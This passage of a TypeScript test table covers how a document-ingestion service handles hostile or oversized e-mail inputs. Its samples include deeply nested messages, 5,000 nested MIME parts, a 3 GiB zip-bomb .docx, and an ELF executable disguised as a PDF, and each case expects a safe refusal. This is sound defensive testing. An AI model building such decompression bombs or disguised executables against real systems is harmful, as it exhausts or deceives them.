    bytes: () => Promise.resolve(truncatedTiff()),
    expect: unreadable,
  },

  // --- E-mail --------------------------------------------------------------------------------------------------
  {
    name: 'eml-no-attachments',
    fileName: 'soknad.eml',
    what: 'an e-mail with only a text body',
    bytes: () =>
      Promise.resolve(
        makeEmail({ subject: 'Soknad kommer', id: 'no-attachments', body: 'Søknaden kommer i eget brev.' }),
      ),
    expect: { parts: [{ file: 'soknad.eml', outcome: unreadable }], count: 1 },
  },
  {
    name: 'eml-500-attachments',
    fileName: 'soknad.eml',
    what: '500 one-byte attachments, over the 100-attachment default',
    bytes: () =>
      Promise.resolve(
        makeEmail({
          subject: 'Mange vedlegg',
          id: 'many',
          attachments: Array.from({ length: 500 }, (_, i) => ({
            fileName: `vedlegg-${i + 1}.pdf`,
            contentType: 'application/pdf',
            bytes: Buffer.from('x'),
          })),
        }),
      ),
    expect: { parts: [{ outcome: { code: 'too-large' } }], maxCount: 1 },
  },
  {
    name: 'eml-nested-3-deep',
    fileName: 'soknad.eml',
    what: 'a PDF in an e-mail attached to an e-mail attached to an e-mail attached to the e-mail: three message/rfc822 levels, within the default maxEmailDepth of 3',
    bytes: async () =>
      nestedEmail(3, [{ fileName: 'soknad.pdf', contentType: 'application/pdf', bytes: await goodPdf() }]),
    expect: { parts: [{ file: /soknad\.pdf$/, outcome: { text: { contains: GOOD_LINES } } }], count: 1 },
  },
  {
    name: 'eml-nested-50-deep',
    fileName: 'soknad.eml',
    what: 'a PDF in an e-mail forwarded as an attachment 50 times',
    bytes: async () =>
      nestedEmail(50, [{ fileName: 'soknad.pdf', contentType: 'application/pdf', bytes: await goodPdf() }]),
    expect: { parts: [{ outcome: { code: 'too-large' } }], noPartContains: GOOD_LINES },
  },
  {
    name: 'eml-hostile-attachments',
    fileName: 'soknad.eml',
    what: 'a good PDF next to a zip-bomb .docx, an executable named .pdf and a password-protected PDF',
    bytes: async () => {
      const bomb = minimalDocx({
        name: 'word/document.xml',
        deflated: deflateRuns([
          utf8(`${DOCUMENT_OPEN}<w:p><w:r><w:t>`),
          { repeat: 'a', times: 3 * GiB },
          utf8(`</w:t></w:r></w:p>${DOCUMENT_CLOSE}`),
        ]),
      });
      return makeEmail({
        subject: 'Soknad med vedlegg',
        id: 'hostile-attachments',
        attachments: [
          { fileName: 'soknad.pdf', contentType: 'application/pdf', bytes: await goodPdf() },
          {
            fileName: 'budsjett.docx',
            contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
            bytes: bomb,
          },
          { fileName: 'faktura.pdf', contentType: 'application/pdf', bytes: elfHeader() },
          {
            fileName: 'vedlegg.pdf',
            contentType: 'application/pdf',
            bytes: encryptedPdf('aes-256', ['Hemmelig'], 'hemmelig', 'eier'),
          },
        ],
      });
    },
    expect: {
      parts: [
        { file: /soknad\.pdf$/, outcome: { text: { contains: GOOD_LINES } } },
        { file: /budsjett\.docx$/, outcome: { code: 'too-large' } },
        { file: /faktura\.pdf$/, outcome: { code: 'unsupported-type' } },
        { file: /vedlegg\.pdf$/, outcome: { code: 'encrypted' } },
      ],
      count: 4,
    },
  },
  {
    name: 'eml-deep-mime-tree',
    fileName: 'soknad.eml',
    what: 'a PDF inside 5 000 nested multipart/mixed containers',
    bytes: async () =>
      deepMultipartEmail(5000, { fileName: 'soknad.pdf', contentType: 'application/pdf', bytes: await goodPdf() }),
    limits: { timeoutMs: 20_000 },
    expect: {
      parts: [
        {
          outcome: [
            { text: { contains: GOOD_LINES } },
            { code: 'too-complex' },
            { code: 'too-large' },
            { code: 'unreadable' },
          ],
        },
      ],
      count: 1,
      why: 'no mail client nests MIME 5 000 deep: the attachment may be read, or the e-mail refused as too deep (too-large), too costly (too-complex) or malformed (unreadable); a hang or a crash must not happen',
    },
  },
  {
    name: 'not-an-email-named-eml',
    fileName: 'soknad.eml',
    what: 'noise under an .eml name',
    bytes: () => Promise.resolve(seededBytes(4096, 13)),
    expect: { parts: [{ file: 'soknad.eml', outcome: unsupported }], count: 1 },
  },
];
